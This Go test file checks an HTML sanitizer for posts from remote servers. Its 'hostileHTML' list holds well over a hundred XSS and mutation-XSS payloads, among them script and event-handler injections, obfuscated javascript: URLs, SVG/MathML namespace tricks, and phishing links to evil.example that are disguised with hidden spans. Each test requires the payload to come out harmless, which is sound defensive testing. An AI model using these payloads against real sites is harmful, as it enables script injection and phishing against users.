package social

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// hostileHTML is what remote servers may send. None of it may do anything but
// show text: checkSafe parses each result the way a browser would.
var hostileHTML = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<script/xss src="//evil.example"></script>`,
	`<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"/>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><foreignObject><p><iframe srcdoc="<script>alert(1)</script>"></iframe></p></foreignObject></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<noembed><img src="</noembed><iframe onload=alert(1)>" /></noembed>`,
	`<noframes><a title="</noframes><script>alert(1)</script>">x</a></noframes>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<title><a title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><a title="</xmp><script>alert(1)</script>"></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<template><script>alert(1)</script></template>`,
	`<select><style><img src=x onerror=alert(1)></style></select>`,
	`<style>@import "//evil.example/x.css";</style>`,
	`<style><!--</style><script>alert(1)//--></script>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`,
	`<p id="main" data-confirm="x" data-turbo="y" contenteditable>x</p>`,
	`<p class="modal-open overlay nav admin">x</p>`,
	`<a class="button primary danger" href="https://a.example/">x</a>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="blob:https://a.example/1">x</a>`,
	`<a href="filesystem:https://a.example/1">x</a>`,
	`<a href="intent://scan/#Intent;scheme=zxing;end">x</a>`,
	`<a href="/settings/delete">x</a>`,
	`<a href="//evil.example/">x</a>`,
	`<a href="\\evil.example\x">x</a>`,
	`<a href="https:evil.example">x</a>`,
	`<a href="https:///evil.example">x</a>`,
	`<a href="https:\\evil.example\">x</a>`,
	`<a href="https://bank.example@evil.example/">x</a>`,
	`<a href="https://user:pass@evil.example/">x</a>`,
	"<a href=\"https://a.example/\u202egnp.exe\">x</a>",
	`<a href="https://a.example/" onclick="alert(1)" onmouseover=alert(1)>x</a>`,
	`<a href="https://a.example/" target="_top" rel="opener" ping="https://evil.example">x</a>`,
	`<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>`,
	"<a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
	`<a href="https://a.example/"><a href="javascript:alert(1)">x</a></a>`,
	`<a name="top" id="top">x</a>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<applet code="x"></applet>`,
	`<base href="https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<form action="https://evil.example"><input name=password><button>x</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<body onload=alert(1)>x</body>`,
	`<html><head><title>x</title></head><body>x</body></html>`,
	`<input autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>`,
	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
	`<p>x</p></div></div></main><p>outside</p>`,
	`</span></p></article></body></html><p>outside`,
	`<p><div><p></div></p>`,
	`<b><i><u><s>` + strings.Repeat(`<span>`, 5000) + `x`,
	strings.Repeat(`<blockquote>`, 3000) + `x` + strings.Repeat(`</blockquote>`, 3000),
	strings.Repeat(`<a href="https://a.example/">`, 1000),
	strings.Repeat(`<p><b>`, 2000),
	strings.Repeat(`<li>`, 500) + `<ul>` + strings.Repeat(`<li>x`, 500),
	strings.Repeat(`</p>`, 1000),
	`<`, `<a`, `<a href`, `<a href="`, `<p class=`, `&`, `&#`, `&#x`, `&#0;`, `&#xD800;`, `&#x10FFFF1;`, `<p x="`, `</`, `<!`, `<!--`,
	"\x00<p>\x00x\x00</p>\x7f",
	"<p>\xff\xfe\xc0\x80</p>",
	"<sc\x00ript>alert(1)</sc\x00ript>",
	`<p>` + "\u2028<script\u2028>alert(1)</script>",
	`<a href="https://evil.example/"><span class="invisible">https://evil.example/</span>bank.example</a>`,
	`<a href="https://evil.example/bank.example/login"><span class="invisible">https://evil.example/</span><span>bank.example/login</span></a>`,
	`<a href="https://evil.example/"><span class="invisible">https://</span>bank.example<span class="invisible">.evil.example</span></a>`,
	`<p><span class="invisible">text that only machines see</span></p>`,
	`<span class="invisible"><a href="https://evil.example/">x</a></span>`,
	`<p><listing>&lt;img onerror="alert(1)" src=x&gt;</listing>`,
	`<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
	`<x-element onclick=alert(1)>x</x-element>`,
	`<p/onclick=alert(1)>x`,
	"<p\fonclick=alert(1)>x",
	`<ol start="javascript:alert(1)" reversed="x"><li value="9999999999999">x</ol>`,
	`<img src="https://tracker.example/pixel.gif" width=1 height=1>`,
	`<p class="h-card u-url ` + strings.Repeat("p-x ", 5000) + `">x</p>`,
}

var elementsOut = map[atom.Atom][]string{
	atom.P: {"class"}, atom.Br: nil, atom.Span: {"class", "translate"}, atom.Del: nil, atom.S: nil, atom.Pre: nil,
	atom.A:    {"href", "class", "translate", "rel", "target"},
	atom.Code: nil, atom.Em: nil, atom.Strong: nil, atom.B: nil, atom.I: nil, atom.U: nil, atom.Ul: nil,
	atom.Ol: {"start", "reversed"}, atom.Li: {"value"}, atom.Blockquote: nil,
}

// checkSafe parses out as a browser would inside a page and fails on anything
// outside the list, and on anything that leaves its box.
func checkSafe(t *testing.T, in, out string) {
	t.Helper()
	page := `<!DOCTYPE html><html><body><main><div id="box">` + out + `</div><p id="after">after</p></main></body></html>`
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatalf("%q: parse %q: %v", in, out, err)
	}
	box := findID(doc, "box")
	after := findID(doc, "after")
	if box == nil || after == nil || box.NextSibling != after || after.FirstChild == nil || after.FirstChild.Data != "after" {
		t.Fatalf("%q: %q leaves its box", in, out)
	}
	for n := range box.Descendants() {
		switch n.Type {
		case html.TextNode:
		case html.ElementNode:
			checkElement(t, in, n)
		default:
			t.Errorf("%q: node of type %d in %q", in, n.Type, out)
		}
	}
	var inner strings.Builder
	for n := range box.ChildNodes() {
		if err := html.Render(&inner, n); err != nil {
			t.Fatal(err)
		}
	}
	if got, want := normalizeMarkup(inner.String()), normalizeMarkup(out); got != want {
		t.Errorf("%q: a browser reads %q as %q", in, want, got)
	}
	if again := SanitizeHTML(out); again != out {
		t.Errorf("%q: second pass turns %q into %q", in, out, again)
	}
}

// normalizeMarkup takes away what the parser writes differently.
func normalizeMarkup(s string) string {
	return strings.NewReplacer("<br/>", "<br>", "\r", "\n").Replace(strings.ReplaceAll(s, "<pre>\n", "<pre>"))
}

func findID(n *html.Node, id string) *html.Node {
	for d := range n.Descendants() {
		for _, a := range d.Attr {
			if a.Key == "id" && a.Val == id {
				return d
			}
		}
	}
	return nil
}

func checkElement(t *testing.T, in string, n *html.Node) {
	t.Helper()
	allowed, ok := elementsOut[n.DataAtom]
	if !ok || n.Namespace != "" {
		t.Errorf("%q: element <%s> %s", in, n.Data, n.Namespace)
	}
	for _, a := range n.Attr {
		if !slices.Contains(allowed, a.Key) {
			t.Errorf("%q: attribute %s on <%s>", in, a.Key, n.Data)
		}
		for _, class := range strings.Fields(a.Val) {
			if a.Key == "class" && !allowedClass(class) {
				t.Errorf("%q: class %q", in, class)
			}
		}
	}
	if n.DataAtom != atom.A {
		return
	}
	get := func(key string) string {
		i := slices.IndexFunc(n.Attr, func(a html.Attribute) bool { return a.Key == key })
		if i < 0 {
			return ""
		}
		return n.Attr[i].Val
	}
	u, err := url.Parse(get("href"))
	if err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) || u.User != nil ||
		u.Scheme != "mailto" && u.Host == "" {
		t.Errorf("%q: href %q", in, get("href"))
	}
	for _, word := range []string{"nofollow", "noopener", "noreferrer"} {
		if !hasWord(get("rel"), word) {
			t.Errorf("%q: rel %q without %s", in, get("rel"), word)
		}
	}
	if get("target") != "_blank" {
		t.Errorf("%q: target %q", in, get("target"))
	}
}

func TestSanitizeHTMLRefuses(t *testing.T) {
	if len(hostileHTML) < 65 {
		t.Fatalf("only %d snippets", len(hostileHTML))
	}
	for _, in := range hostileHTML {
		for _, wrapped := range []string{in, "<p>" + in + "</p>", "<ul><li><b>" + in, "<pre>" + in + "</pre>", `<a href="https://ok.example/">` + in} {
			out := SanitizeHTML(wrapped)
			checkSafe(t, wrapped, out)
			if strings.Contains(wrapped, "alert(1)</script>") && strings.Contains(out, "<script") {
				t.Errorf("%q: script in %q", wrapped, out)
			}
		}
	}
}

const linkEnd = ` rel="nofollow noopener noreferrer ugc" target="_blank">`

func TestSanitizeHTMLKeeps(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"empty", "", ""},
		{"text", `5 > 3 & "so"`, `5 &gt; 3 &amp; &#34;so&#34;`},
		{"paragraphs", `<p>a<br>b<br/>c</p><p>d</p>`, `<p>a<br>b<br>c</p><p>d</p>`},
		{
			"formatting", `<p><b>b</b><i>i</i><u>u</u><s>s</s><del>d</del><em>e</em><strong>g</strong><code>c</code></p>`,
			`<p><b>b</b><i>i</i><u>u</u><s>s</s><del>d</del><em>e</em><strong>g</strong><code>c</code></p>`,
		},
		{"blocks", "<blockquote><p>q</p></blockquote><pre>a\n  b</pre>", "<blockquote><p>q</p></blockquote><pre>a\n  b</pre>"},
		{
			"lists", `<ol start="3" reversed><li value="7">a<li>b<ul><li>c</li></ul></li></ol>`,
			`<ol reversed="" start="3"><li value="7">a</li><li>b<ul><li>c</li></ul></li></ol>`,
		},
		{
			"headings", `<h1 id="x">Title</h1><h3>Sub <em>x</em></h3>text`,
			`<p><strong>Title</strong></p><p><strong>Sub <em>x</em></strong></p>text`,
		},
		{
			"mention", `<p><span class="h-card" translate="no"><a href="https://a.example/@bob" class="u-url mention">@<span>bob</span></a></span> hi</p>`,
			`<p><span class="h-card" translate="no"><a class="u-url mention" href="https://a.example/@bob"` + linkEnd + `@<span>bob</span></a></span> hi</p>`,
		},
		{
			"hashtag", `<a href="https://a.example/tags/go" class="mention hashtag x" rel="tag">#<span>go</span></a>`,
			`<a class="mention hashtag" href="https://a.example/tags/go" rel="tag nofollow noopener noreferrer ugc" target="_blank">#<span>go</span></a>`,
		},
		{
			"shortened link", `<a href="https://www.a.example/long/path?x=1&amp;y=2"><span class="invisible">https://www.</span><span class="ellipsis">a.example/long</span><span class="invisible">/path?x=1&amp;y=2</span></a>`,
			`<a href="https://www.a.example/long/path?x=1&amp;y=2"` + linkEnd + `<span class="invisible">https://www.</span><span class="ellipsis">a.example/long</span><span class="invisible">/path?x=1&amp;y=2</span></a>`,
		},
		{
			"hidden host shown", `<a href="https://evil.example/"><span class="invisible">https://evil.example/</span>bank.example</a>`,
			`<a href="https://evil.example/"` + linkEnd + `<span>https://evil.example/</span>bank.example</a>`,
		},
		{
			"hidden end of a host shown", `<a href="https://bank.example.evil.example/"><span class="invisible">https://</span>bank.example<span class="invisible">.evil.example</span></a>`,
			`<a href="https://bank.example.evil.example/"` + linkEnd + `<span class="invisible">https://</span>bank.example<span>.evil.example</span></a>`,
		},
		{"hidden text outside a link", `<p>a<span class="invisible">b</span></p>`, `<p>a<span>b</span></p>`},
		{"mail", `<a href="mailto:ada@a.example">x</a>`, `<a href="mailto:ada@a.example"` + linkEnd + `x</a>`},
		{"foreign name", `<a href="https://例子.example/路">x</a>`, `<a href="https://xn--fsqu00a.example/%E8%B7%AF"` + linkEnd + `x</a>`},
		{"other scheme", `<p>see <a href="gemini://a.example/">this</a></p>`, `<p>see this</p>`},
		{"relative", `<a href="/x" class="mention">this</a>`, `this`},
		{"divs", `<div>a</div><div>b</div>c`, `a<p>b</p><p>c</p>`},
		{"table", `<table><tr><td>a</td><td>b</td></tr></table>`, `a<p>b</p>`},
		{"block in paragraph", `<p>a<blockquote>b</blockquote>c</p>`, `<p>a</p><blockquote>b</blockquote>c`},
		{"unclosed", `<p>a<b>b<p>c`, `<p>a<b>b</b></p><p>c</p>`},
		{"crossed", `<b>a<i>b</b>c</i>`, `<b>a<i>b</i></b>c`},
		{
			"quote fallback", `<p class="quote-inline x">RE: <a href="https://a.example/1">1</a></p>`,
			`<p class="quote-inline">RE: <a href="https://a.example/1"` + linkEnd + `1</a></p>`,
		},
		{"entities once", `&amp;lt;b&amp;gt; &nbsp;&eacute;`, "&amp;lt;b&amp;gt; \u00a0é"},
		{"script gone", `a<script>b</script>c`, `ac`},
		{"item without list", `<li>a</li><li>b</li>`, `a<p>b</p>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeHTML(tt.in)
			if got != tt.want {
				t.Errorf("%s\n got %s\nwant %s", tt.in, got, tt.want)
			}
			checkSafe(t, tt.in, got)
		})
	}
}

func TestSanitizeHTMLIsBounded(t *testing.T) {
	for name, unit := range map[string]string{
		"links": `<a href="http://a.b">x`, "quotes": `"`, "marks": `<p>`, "amps": `&`, "open": `<`, "spans": `<span class="invisible">x`,
		"lists": `<ul><li>`, "hidden": `<a href="http://a.b"><span class="invisible">y</span>`,
	} {
		in := strings.Repeat(unit, (4<<20)/len(unit))
		out := SanitizeHTML(in)
		if len(out) > 6*maxHTMLIn {
			t.Errorf("%s: %d bytes out", name, len(out))
		}
	}
	if out := SanitizeHTML("<p>" + strings.Repeat("汉", 200_000)); len(out) > maxHTMLIn+16 || strings.ContainsRune(out, '\uFFFD') {
		t.Errorf("long text: %d bytes, or cut inside a letter", len(out))
	}
}

func TestPlainText(t *testing.T) {
	tests := []struct {
		in   string
		max  int
		want string
	}{
		{"Ada", 10, "Ada"},
		{"<b>Ada</b> &amp; <i>Bob", 20, "Ada & Bob"},
		{"&amp;lt;script&amp;gt;", 40, "&lt;script&gt;"},
		{"&lt;script&gt;", 40, "<script>"},
		{"I <3 you", 40, "I <3 you"},
		{"1 < 2 & 3", 40, "1 < 2 & 3"},
		{"a<script>alert(1)</script>b<style>x</style>c", 40, "abc"},
		{"<p>a</p><p>b<br>c</p>", 40, "a\nb\nc"},
		{"a\r\n\r\n\r\n\r\nb", 40, "a\n\nb"},
		{"admin\u202egnp.exe\u2066x", 40, "admingnp.exex"},
		{"a\x00b\x1bc\x7fd\u0085e", 40, "abcde"},
		{"\ufeffa\u200bb\u2060c\u00add", 40, "abcd"},
		{"汉字汉字", 3, "汉字汉"},
		{"e" + strings.Repeat("\u0301", 50), 100, "e" + strings.Repeat("\u0301", 8)},
		{"\xffbad\xc0", 10, "bad"},
		{"👩‍👩‍👧 ok", 10, "👩‍👩‍👧 ok"},
		{"x", 0, ""},
		{"<img src=x onerror=alert(1)>", 40, ""},
		{strings.Repeat("<b>x", 100_000), 5, "xxxxx"},
	}
	for _, tt := range tests {
		if got := PlainText(tt.in, tt.max); got != tt.want {
			t.Errorf("PlainText(%.60q, %d) = %q, want %q", tt.in, tt.max, got, tt.want)
		}
	}
}

func TestCleanName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"  林  薇\n(同窗) ", "林 薇 (同窗)"},
		{"<b>x</b>", "x"},
		{"\u200b\u2060\u3164", ""},
		{"\u202e\u202d", ""},
		{"   ", ""},
		{":blobcat: Ada", ":blobcat: Ada"},
		{strings.Repeat("长", 300), strings.Repeat("长", 100)},
	}
	for _, tt := range tests {
		if got := CleanName(tt.in); got != tt.want {
			t.Errorf("CleanName(%.40q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	if got := CleanText("a <b> & c", 20); got != "a <b> & c" {
		t.Errorf("typed text became %q", got)
	}
	if got := TypedName(" a <b>\n&amp;\u202e c "); got != "a <b> &amp; c" {
		t.Errorf("a typed name became %q", got)
	}
}

// theLongWay is SanitizeHTML without the short cut.
func theLongWay(s string) string {
	c := cleaner{}
	c.run(remotePolicy().SanitizeReader(strings.NewReader(s)))
	return string(c.buf)
}

func TestSanitizeHTMLShortCut(t *testing.T) {
	for _, in := range []string{
		ordinaryNote, "<p>Hello, everyone!</p>", "hello", "<p>a &amp; b &lt;3<br>c<br/>d<br /></p><p>\"x\" 'y'</p>",
		"<blockquote><p>q</p></blockquote><ul><li>a<ul><li><p>b</p></li></ul></li></ul><pre><code>x\ny</code></pre>",
	} {
		var c cleaner
		if !c.simple(in) {
			t.Errorf("%q does not take the short cut", in)
		}
		if got, want := string(c.buf), theLongWay(in); got != want {
			t.Errorf("%q\nshort %q\n long %q", in, got, want)
		}
		checkSafe(t, in, string(c.buf))
	}
	for _, in := range []string{
		"<p>a", "a</p>", "<p><p>a</p></p>", "<b><p>a</p></b>", "<p>&copy;</p>", "<p>&#x3c;</p>", "<p onclick=\"x\">a</p>",
		"<p class=x>a</p>", "<a href=\"https://a.example/\" href=\"javascript:x\">a</a>", "<P>a</P>", "<p/>", "<p>a\rb</p>",
		"<a href=\"https://a.example/&quot;\">a</a>", "<a href=\"/\">a</a>", "<li>a</li>", "<!-- -->", "<p>a\x00</p>", "<div>a</div>",
		"<a href=\"https://a.example/\x00amp;\">a</a>", "<p class=\"a\"translate=\"no\">x</p>", "a < b", "a <b", "<p class=\"<\">a</p>",
	} {
		var c cleaner
		if c.simple(in) {
			t.Errorf("%q takes the short cut to %q", in, c.buf)
		}
	}
}

func FuzzSanitizeHTML(f *testing.F) {
	for _, in := range hostileHTML {
		f.Add(in)
	}
	f.Add(ordinaryNote)
	f.Fuzz(func(t *testing.T, in string) {
		out := SanitizeHTML(in)
		checkSafe(t, in, out)
		if long := theLongWay(strings.ToValidUTF8(in, "")); len(in) < maxHTMLIn && long != out {
			t.Errorf("%q\nshort %q\n long %q", in, out, long)
		}
		for _, r := range PlainText(in, 50) {
			if isBidiControl(r) || r == 0 {
				t.Errorf("%q: %U left", in, r)
			}
		}
		CleanName(in)
	})
}

const ordinaryNote = `<p><span class="h-card" translate="no"><a href="https://social.example/@linwei" class="u-url mention">@<span>linwei</span></a></span> Reading about distributed circles today, and it made me think of our class. 明天下午三点在图书馆见面，记得带上笔记本。</p><p>Notes: <a href="https://blog.example/2026/11/notes-on-circles" target="_blank" rel="nofollow noopener noreferrer"><span class="invisible">https://</span><span class="ellipsis">blog.example/2026/11/notes-on-</span><span class="invisible">circles</span></a> <a href="https://social.example/tags/class" class="mention hashtag" rel="tag">#<span>class</span></a></p>`

func BenchmarkSanitizeHTML(b *testing.B) {
	for name, in := range map[string]string{"note": ordinaryNote, "short": "<p>Hello, everyone!</p>", "text": "hello"} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				SanitizeHTML(in)
			}
		})
	}
	long := fmt.Sprint(strings.Repeat(`<p><a href="https://a.example/x">x</a> y</p>`, 3000))
	b.Run("120kB", func(b *testing.B) {
		for b.Loop() {
			SanitizeHTML(long)
		}
	})
}
